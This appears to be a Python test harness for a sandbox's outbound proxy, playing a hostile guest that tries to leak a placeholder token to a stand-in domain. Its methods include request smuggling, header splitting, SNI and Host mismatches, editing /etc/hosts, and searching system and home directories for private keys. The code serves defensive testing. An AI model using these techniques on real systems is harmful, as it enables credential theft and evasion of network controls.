"""What a hostile program in a guest tries to learn its secret or to send it elsewhere; TOKEN is its placeholder.

Arguments: names of attempts to leave out. Prints one JSON line for each attempt: its name, whether the value may reach the named domain, the paths that were asked
for, and all that came back.
"""
import base64
import json
import os
import re
import socket
import ssl
import struct
import sys
import threading

TOKEN = os.environ["TOKEN"]
API, OTHER = "api.test", "other.test"
OTHER_ADDRESS = "203.0.113.20"
BASIC = base64.b64encode(f"user:{TOKEN}".encode()).decode()
LIMIT = 120
# Paths that this attempt has asked for.
paths = []


def context(trusting=True, alpn=None):
    """Of a client that trusts the system's store, or everybody."""
    made = ssl.create_default_context()
    if not trusting:
        made.check_hostname = False
        made.verify_mode = ssl.CERT_NONE
    if alpn:
        made.set_alpn_protocols(alpn)
    return made


def heard(sock):
    """All that comes until the end, or until nothing more does."""
    parts = []
    try:
        while part := sock.recv(65536):
            parts.append(part)
    except OSError as error:
        parts.append(f"[{type(error).__name__}]".encode())
    return b"".join(parts).decode("latin-1")


def say(data, name=API, port=443, address=None, sni=True, trusting=True, alpn=None, pieces=None):
    """Send bytes over TLS; gives what comes back."""
    if isinstance(data, str):
        data = data.encode("latin-1")
    with socket.create_connection((address or name, port), timeout=LIMIT) as plain:
        wrapped = context(trusting, alpn).wrap_socket(plain, server_hostname=name if sni else None)
        with wrapped as sock:
            if pieces is None:
                sock.sendall(data)
            else:
                for at in range(0, len(data), pieces):
                    sock.sendall(data[at : at + pieces])
            return heard(sock)


def plainly(data, name=API, port=80):
    """Send bytes unencrypted."""
    with socket.create_connection((name, port), timeout=LIMIT) as sock:
        sock.sendall(data.encode("latin-1"))
        return heard(sock)


def get(path, *fields, host=API, method="GET", version="1.1", body=""):
    """A request that closes its connection."""
    paths.append(path.split("?")[0].replace(TOKEN, ""))
    lines = [f"{method} {path} HTTP/{version}", f"Host: {host}", "Connection: close", *fields]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", body])


KEY = f"X-Key: {TOKEN}"


def websocket():
    """A handshake, and the placeholder as a message."""
    key = base64.b64encode(os.urandom(16)).decode()
    fields = ["Upgrade: websocket", f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", KEY]
    head = get(f"/socket?k={TOKEN}", *fields).replace("close", "Upgrade")
    mask = b"\0\0\0\0"
    message = TOKEN.encode()
    frame = struct.pack("!BB", 0x81, 0x80 | len(message)) + mask + message
    return say(head.encode() + frame + struct.pack("!BB", 0x88, 0x80) + mask)


def relay():
    """A proxy in the guest, to which a client says CONNECT."""
    server = socket.create_server(("127.0.0.1", 0))
    seen = []

    def serve():
        near, _ = server.accept()
        near.recv(4096)
        far = socket.create_connection((API, 443), timeout=LIMIT)
        near.sendall(b"HTTP/1.1 200 OK\r\n\r\n")

        def pump(one, two):
            try:
                while data := one.recv(65536):
                    seen.append(data)
                    two.sendall(data)
                two.shutdown(socket.SHUT_WR)
            except OSError:
                pass  # The other way has ended it.

        back = threading.Thread(target=pump, args=(far, near))
        back.start()
        pump(near, far)
        back.join()
        near.close()
        far.close()

    thread = threading.Thread(target=serve)
    thread.start()
    with socket.create_connection(server.getsockname()) as plain:
        plain.sendall(f"CONNECT {API}:443 HTTP/1.1\r\n\r\n".encode())
        plain.recv(4096)
        with context().wrap_socket(plain, server_hostname=API) as sock:
            sock.sendall(get("/relayed", KEY).encode())
            text = heard(sock)
    thread.join()
    return text + b"".join(seen).decode("latin-1")


def moved():
    """A redirect to another domain, followed with everything."""
    text = say(get(f"/moved{TOKEN}", KEY))
    path = re.search(r"Location: https://other.test(\S+)", text, re.I).group(1)
    return text + say(get(path, KEY, host=OTHER), name=OTHER, trusting=False)


def own_hosts():
    """The name leads elsewhere, as the guest says."""
    hosts = "/etc/hosts"
    with open(hosts, encoding="utf8") as file:
        old = file.read()
    with open(hosts, "w", encoding="utf8") as file:
        file.write(f"{old}\n{OTHER_ADDRESS} {API}\n")
    try:
        return say(get("/by-hosts", KEY), trusting=False)
    finally:
        with open(hosts, "w", encoding="utf8") as file:
            file.write(old)


def keys():
    """Private keys and values that lie about."""
    found = []
    for root in ("/etc", "/run", "/home", "/root"):
        for place, _, names in os.walk(root):
            for name in names:
                path = os.path.join(place, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                        with open(path, "rb") as file:
                            text = file.read()
                        if b"PRIVATE KEY" in text or b"tok_Super" in text:
                            found.append(path)
                except OSError:
                    pass  # It is gone.
    return " ".join(found)


half = len(TOKEN) // 2
CHUNKED = "Transfer-Encoding: chunked"
CUT = f"{half:x}\r\n{TOKEN[:half]}\r\n{len(TOKEN) - half:x}\r\n{TOKEN[half:]}\r\n0\r\n\r\n"

# In this order: by name, whether the value may reach the named domain, and what is done.
ATTEMPTS = [
    ("header", True, lambda: say(get("/in-header", KEY))),
    ("cookie", True, lambda: say(get("/cookie", f"Cookie: a={TOKEN}"))),
    ("bearer", True, lambda: say(get("/bearer", f"Authorization: Bearer {TOKEN}"))),
    ("basic", True, lambda: say(get("/in-basic", f"Authorization: Basic {BASIC}"))),
    ("query", True, lambda: say(get(f"/in-query?k={TOKEN}"))),
    ("body", True, lambda: say(get("/in-body", method="POST", body=TOKEN))),
    ("chunks", True, lambda: say(get("/chunks", CHUNKED, method="POST") + CUT)),
    ("pieces", True, lambda: say(get("/pieces", KEY), pieces=7)),
    ("HTTP/1.0", True, lambda: say(get("/old", KEY, version="1.0"))),
    ("HEAD", True, lambda: say(get("/head", KEY, method="HEAD"))),
    ("expect", True, lambda: say(get("/expect", "Expect: 100-continue", method="POST", body=TOKEN))),
    ("range", True, lambda: say(get("/range", KEY, "Range: bytes=0-9"))),
    ("relayed", True, relay),
    *((f"echo as {form}", True, lambda form=form: say(get(f"/as/{form}", KEY)))
      for form in ("json", "base64", "hex", "gzip", "br", "percent", "pieces", "html", "fields")),
    ("WebSocket", True, websocket),
    ("redirect", True, moved),
    ("twice base64", False, lambda: say(get("/double", "X-Blob: " + base64.b64encode(BASIC.encode()).decode()))),
    ("split", False, lambda: say(get("/split", f"X-Key: {TOKEN[:half]}", f"X-Key: {TOKEN[half:]}"))),
    ("folded", False, lambda: say(get("/folded", f"X-Key: {TOKEN[:half]}\r\n {TOKEN[half:]}"))),
    ("field's name", False, lambda: say(get("/name", f"{TOKEN}: 1"))),
    ("other domain", False, lambda: say(get("/x", KEY, host=OTHER), name=OTHER, trusting=False)),
    ("other domain, query", False, lambda: say(get(f"/?k={TOKEN}", host=OTHER), name=OTHER, trusting=False)),
    ("other domain, body", False,
     lambda: say(get("/", host=OTHER, method="POST", body=TOKEN), name=OTHER, trusting=False)),
    ("other Host", False, lambda: say(get("/host", KEY, host=OTHER))),
    ("other target", False, lambda: say(get("https://other.test/target", KEY))),
    ("two Hosts", False, lambda: say(get("/hosts", "Host: other.test", KEY))),
    ("second request to another Host", False,
     lambda: say(get("/first").replace("close", "keep-alive") + get("/second", KEY, host=OTHER))),
    ("name at another address", False,
     lambda: say(get("/address", KEY), address=OTHER_ADDRESS, trusting=False)),
    ("another name at this address", False,
     lambda: say(get("/sni", KEY), name=OTHER, address=API, trusting=False)),
    ("no name", False, lambda: say(get("/nobody", KEY), sni=False, trusting=False)),
    ("hosts of the guest's own", False, own_hosts),
    ("unencrypted", False, lambda: plainly(get("/plain", KEY))),
    ("unencrypted, query", False, lambda: plainly(get(f"/?k={TOKEN}"))),
    ("unencrypted on the port of TLS", False, lambda: plainly(get("/443", KEY), port=443)),
    ("another port", False, lambda: say(get("/port", KEY), port=8443, trusting=False)),
    ("TRACE", False, lambda: say(get("/trace", KEY, method="TRACE"))),
    ("CONNECT", False, lambda: say(get("other.test:443", KEY, method="CONNECT"))),
    ("two lengths", False, lambda: say(get("/cl", KEY, "Content-Length: 0", "Content-Length: 5") + "abcde")),
    ("length and chunks", False, lambda: say(get("/te", KEY, CHUNKED, "Content-Length: 4", method="POST") + CUT)),
    ("HTTP/2 unasked", False, lambda: say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9), alpn=["h2", "http/1.1"])),
    ("HTTP/2 alone", False, lambda: say(get("/h2", KEY), alpn=["h2"])),
    ("large head", False, lambda: say(get("/large", KEY, *(f"X-{n}: {'x' * 1000}" for n in range(80))))),
    ("trailers", False, lambda: say(get("/trailers", CHUNKED, "Trailer: X-Key", method="POST") + f"0\r\n{KEY}\r\n\r\n")),
    ("keys that lie about", False, keys),
]

for title, knows, attempt in ATTEMPTS:
    if title in sys.argv[1:]:
        continue
    paths.clear()
    try:
        got = attempt()
    except (OSError, AttributeError) as error:
        got = f"[{type(error).__name__}: {error}]"
    print(json.dumps({"attempt": title, "knows": knows, "paths": paths, "got": got}), flush=True)
